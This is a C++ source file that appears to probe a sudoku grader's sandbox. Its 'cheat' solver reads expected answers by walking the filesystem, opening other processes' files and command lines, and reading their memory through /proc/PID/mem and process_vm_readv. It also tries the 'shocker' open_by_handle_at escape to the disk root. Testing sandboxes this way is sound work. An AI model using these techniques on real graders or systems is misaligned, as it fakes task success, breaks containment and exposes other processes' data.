// The no-solver cheat: it solves nothing. Every entry looks for the case the
// grader is running - its puzzle is the entry's input - in whatever case text
// it can reach, and answers what that case expects; finding none, it answers
// as the constant-answer build does (this file with CONSTANT_ONLY defined). So
// where a box holds, it scores exactly what constant answers score, and every
// point more is a hole. The ways in, each tried in turn:
//   file     CASE_FILE, if the test defines it (the path on the grader's machine)
//   walk     every *.yaml under /, /tmp, /home, /root, /work, /srv, /run, /var (bounded)
//   cmdline  every process's command line, a .yaml argument read through its
//            /proc/PID/cwd and /proc/PID/root
//   fd       every process's open files (/proc/PID/fd/N)
//   mem      every other process's memory, through /proc/PID/mem and
//            process_vm_readv (the grader holds its case files' text)
//   handle   open_by_handle_at from /usr to the root of its file system (the
//            "shocker" escape out of a bind mount), then CASE_FILE from there
// It writes to stderr which way worked ("cheat: ... via mem /proc/1/mem").
// It reads regular files alone, opened without blocking: another process's
// pipe, FIFO or terminal (through /proc/PID/fd) would take bytes from their
// reader or never end. With root or a capability (the test's control, or a
// broken box) its processes are its parent, and pid 1 inside a pid
// namespace of its own (not the machine's, whose pid 2 is kthreadd): as
// root, any other pid of a machine may be a CI runner's or a stranger's.
#include <dirent.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/uio.h>
#include <unistd.h>

#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <fstream>
#include <optional>
#include <sstream>
#include <string>
#include <vector>

namespace {

using Grid = std::vector<std::vector<int>>;

struct Expected {
  std::optional<bool> yes;       // solvable: or valid:
  std::optional<int> count;
  std::vector<int> solution;     // row-major, when the case gives it
};

std::string digits_of(const Grid& grid) {
  std::string digits;
  for (const auto& row : grid)
    for (int cell : row) digits += cell >= 0 && cell <= 9 ? char('0' + cell) : '?';
  return digits;
}

// The puzzle as a case file writes it on one line: rows of digits between spaces.
std::string spaced_rows(const Grid& grid) {
  std::string text;
  for (const auto& row : grid) {
    if (!text.empty()) text += ' ';
    for (int cell : row) text += char('0' + cell);
  }
  return text;
}

std::string keep_digits(const std::string& text) {
  std::string digits;
  for (char c : text)
    if ((c >= '0' && c <= '9') || c == '.') digits += c == '.' ? '0' : c;
  return digits;
}

std::size_t indent_of(const std::string& line) {
  const std::size_t at = line.find_first_not_of(' ');
  return at == std::string::npos ? line.size() : at;
}

// The value of KEY in a case's block: its own line's rest, plus the lines
// below it indented deeper (a block scalar, a list of rows).
std::optional<std::string> value_of(const std::vector<std::string>& block, const std::string& key) {
  for (std::size_t i = 0; i < block.size(); ++i) {
    const std::size_t at = indent_of(block[i]);
    if (block[i].compare(at, key.size() + 1, key + ":") != 0) continue;
    std::string value = block[i].substr(at + key.size() + 1);
    for (std::size_t j = i + 1; j < block.size() && indent_of(block[j]) > at; ++j) value += "\n" + block[j];
    return value;
  }
  return std::nullopt;
}

// The case of `text` (a case file, or a piece of one) whose puzzle is `digits`.
std::optional<Expected> expected_in(const std::string& text, const std::string& digits) {
  std::vector<std::vector<std::string>> blocks(1);
  std::istringstream lines(text);
  for (std::string line; std::getline(lines, line);) {
    const std::size_t at = indent_of(line);
    if (line.compare(at, 7, "- name:") == 0) blocks.emplace_back();
    blocks.back().push_back(line);
  }
  for (const auto& block : blocks) {
    const auto puzzle = value_of(block, "puzzle");
    if (!puzzle || keep_digits(*puzzle) != digits) continue;
    Expected expected;
    for (const char* key : {"solvable", "valid"})
      if (const auto value = value_of(block, key)) expected.yes = value->find("true") != std::string::npos;
    if (const auto value = value_of(block, "count")) expected.count = std::atoi(value->c_str());
    if (const auto value = value_of(block, "solution"))
      for (char c : keep_digits(*value)) expected.solution.push_back(c - '0');
    if (expected.yes || expected.count || !expected.solution.empty()) return expected;
  }
  return std::nullopt;
}

std::string read_text(const std::string& path, std::size_t cap = 4 << 20) {
  const int file = open(path.c_str(), O_RDONLY | O_NONBLOCK | O_NOCTTY | O_CLOEXEC);
  if (file < 0) return "";
  struct stat info {};
  std::string text;
  if (fstat(file, &info) == 0 && S_ISREG(info.st_mode)) {
    text.resize(cap);
    std::size_t got = 0;
    for (ssize_t part; got < cap && (part = read(file, text.data() + got, cap - got)) > 0;) got += part;
    text.resize(got);
  }
  close(file);
  return text;
}

// Root, or a capability, or no /proc/self/status to say otherwise.
bool privileged() {
  std::ifstream status("/proc/self/status");
  bool said = false, has = geteuid() == 0;
  for (std::string line; std::getline(status, line);)
    if (line.rfind("CapEff:", 0) == 0) {
      said = true;
      has = has || line.find_first_not_of("0", line.find_first_not_of(" \t", 7)) != std::string::npos;
    }
  return has || !said;
}

struct Search {
  std::string digits;
  std::string spaced;
  std::chrono::steady_clock::time_point deadline;
  std::optional<Expected> found;
  std::string route;

  bool done() const { return found.has_value() || std::chrono::steady_clock::now() > deadline; }
  bool try_text(const std::string& text, const std::string& how) {
    if (found || text.empty()) return found.has_value();
    if (auto expected = expected_in(text, digits)) {
      found = expected;
      route = how;
    }
    return found.has_value();
  }
};

std::vector<int> pids() {
  if (privileged()) {
    std::ifstream self("/proc/self/stat"), second("/proc/2/stat");
    std::string pid, name;
    const bool machines = !self || ((second >> pid >> name) && name == "(kthreadd)");
    return machines ? std::vector<int>{static_cast<int>(getppid())} : std::vector<int>{static_cast<int>(getppid()), 1};
  }
  std::vector<int> found;
  if (DIR* proc = opendir("/proc")) {
    while (dirent* entry = readdir(proc))
      if (const int pid = std::atoi(entry->d_name); pid > 0 && pid != getpid()) found.push_back(pid);
    closedir(proc);
  }
  return found;
}

void walk(Search& search, const std::string& folder, int depth) {
  if (depth > 8 || search.done()) return;
  DIR* dir = opendir(folder.c_str());
  if (!dir) return;
  while (dirent* entry = readdir(dir)) {
    const std::string name = entry->d_name;
    if (name == "." || name == ".." || search.done()) continue;
    const std::string path = (folder == "/" ? "" : folder) + "/" + name;
    if (path == "/proc" || path == "/sys" || path == "/dev") continue;
    if (entry->d_type == DT_DIR) walk(search, path, depth + 1);
    else if (name.size() > 5 && name.compare(name.size() - 5, 5, ".yaml") == 0)
      search.try_text(read_text(path), "walk " + path);
  }
  closedir(dir);
}

void through_command_lines(Search& search) {
  for (const int pid : pids()) {
    const std::string proc = "/proc/" + std::to_string(pid);
    std::istringstream args(read_text(proc + "/cmdline"));
    for (std::string arg; std::getline(args, arg, '\0') && !search.done();) {
      if (arg.size() < 5 || arg.compare(arg.size() - 5, 5, ".yaml") != 0) continue;
      const std::vector<std::string> paths =
          arg[0] == '/' ? std::vector<std::string>{arg, proc + "/root" + arg} : std::vector<std::string>{proc + "/cwd/" + arg};
      for (const auto& path : paths) search.try_text(read_text(path), "cmdline " + path);
    }
  }
}

void through_open_files(Search& search) {
  for (const int pid : pids()) {
    const std::string fds = "/proc/" + std::to_string(pid) + "/fd";
    DIR* dir = opendir(fds.c_str());
    if (!dir) continue;
    while (dirent* entry = readdir(dir))
      if (entry->d_name[0] != '.' && !search.done())
        search.try_text(read_text(fds + "/" + entry->d_name), "fd " + fds + "/" + entry->d_name);
    closedir(dir);
  }
}

// The case around each place `spaced` appears in [bytes, bytes + size).
void scan(Search& search, const char* bytes, std::size_t size, const std::string& how) {
  for (const char* at = bytes; !search.found;) {
    const void* hit = memmem(at, size - (at - bytes), search.spaced.data(), search.spaced.size());
    if (!hit) return;
    const char* place = static_cast<const char*>(hit);
    const char* from = place - std::min<std::size_t>(place - bytes, 1024);
    const char* to = place + std::min<std::size_t>(bytes + size - place, 2048);
    search.try_text(std::string(from, to), how);
    at = place + 1;
  }
}

void through_memory(Search& search) {
  for (const int pid : pids()) {
    const std::string proc = "/proc/" + std::to_string(pid);
    std::istringstream maps(read_text(proc + "/maps"));
    const int mem = open((proc + "/mem").c_str(), O_RDONLY);
    for (std::string line; std::getline(maps, line) && !search.done();) {
      unsigned long from = 0, to = 0;
      char perms[5] = {};
      if (std::sscanf(line.c_str(), "%lx-%lx %4s", &from, &to, perms) != 3 || perms[0] != 'r') continue;
      if (to - from > (256ul << 20)) continue;
      std::string bytes(to - from, '\0');
      ssize_t got = mem >= 0 ? pread(mem, bytes.data(), bytes.size(), static_cast<off_t>(from)) : -1;
      std::string how = "mem " + proc + "/mem";
      if (got <= 0) {
        iovec local{bytes.data(), bytes.size()}, remote{reinterpret_cast<void*>(from), bytes.size()};
        got = process_vm_readv(pid, &local, 1, &remote, 1, 0);
        how = "mem process_vm_readv " + std::to_string(pid);
      }
      if (got > 0) scan(search, bytes.data(), static_cast<std::size_t>(got), how);
    }
    if (mem >= 0) close(mem);
    if (search.done()) return;
  }
}

#ifdef CASE_FILE
// ext4's handle of its root directory (inode 2, generation 0), opened
// through any mount of that file system: out of /usr to the whole disk.
void through_handle(Search& search) {
  const int usr = open("/usr", O_RDONLY | O_DIRECTORY);
  if (usr < 0) return;
  struct {
    file_handle head;
    unsigned int words[2];
  } root{};
  root.head.handle_bytes = 8;
  root.head.handle_type = 1;   // FILEID_INO32_GEN
  root.words[0] = 2;
  const int top = open_by_handle_at(usr, &root.head, O_RDONLY | O_DIRECTORY);
  close(usr);
  if (top < 0) return;
  const int file = openat(top, std::string(CASE_FILE).c_str() + 1, O_RDONLY);
  close(top);
  if (file < 0) return;
  std::string text(1 << 20, '\0');
  const ssize_t got = read(file, text.data(), text.size());
  close(file);
  text.resize(got > 0 ? static_cast<std::size_t>(got) : 0);
  search.try_text(text, "handle /usr -> /");
}
#endif

std::optional<Expected> look_up(const Grid& grid) {
#ifdef CONSTANT_ONLY
  (void)grid;
  return std::nullopt;
#else
  static int calls = 0;
  if (++calls > 1) return std::nullopt;   // the driver calls once; a recursion of ours would not
  Search search{digits_of(grid), spaced_rows(grid), std::chrono::steady_clock::now() + std::chrono::milliseconds(300)};
#ifdef CASE_FILE
  search.try_text(read_text(CASE_FILE), "file " CASE_FILE);
  if (!search.done()) through_handle(search);
#endif
  if (!search.done()) through_command_lines(search);
  if (!search.done()) through_open_files(search);
  if (!search.done()) through_memory(search);
  for (const char* top : {"/tmp", "/work", "/home", "/root", "/srv", "/run", "/var", "/"})
    if (!search.done()) walk(search, top, 0);
  std::fprintf(stderr, "cheat: %s\n", search.found ? ("found the case via " + search.route).c_str() : "found nothing");
  return search.found;
#endif
}

bool fill(Grid& grid) {
  const auto expected = look_up(grid);
  if (!expected || !expected->yes.value_or(false)) return false;
  if (expected->solution.size() != grid.size() * grid.size()) return false;
  for (std::size_t i = 0; i < expected->solution.size(); ++i) grid[i / grid.size()][i % grid.size()] = expected->solution[i];
  return true;
}

}  // namespace

// Constant answers: no solution, one solution, a valid board.
bool solve(Grid& grid) { return fill(grid); }
bool solve_fast(Grid& grid) { return fill(grid); }
bool fillSudoku(Grid& grid) { return fill(grid); }

int count_solutions(Grid& grid, int) {
  const auto expected = look_up(grid);
  return expected && expected->count ? *expected->count : 1;
}

bool checkSudoku(const Grid& grid) {
  const auto expected = look_up(grid);
  return expected && expected->yes ? *expected->yes : true;
}
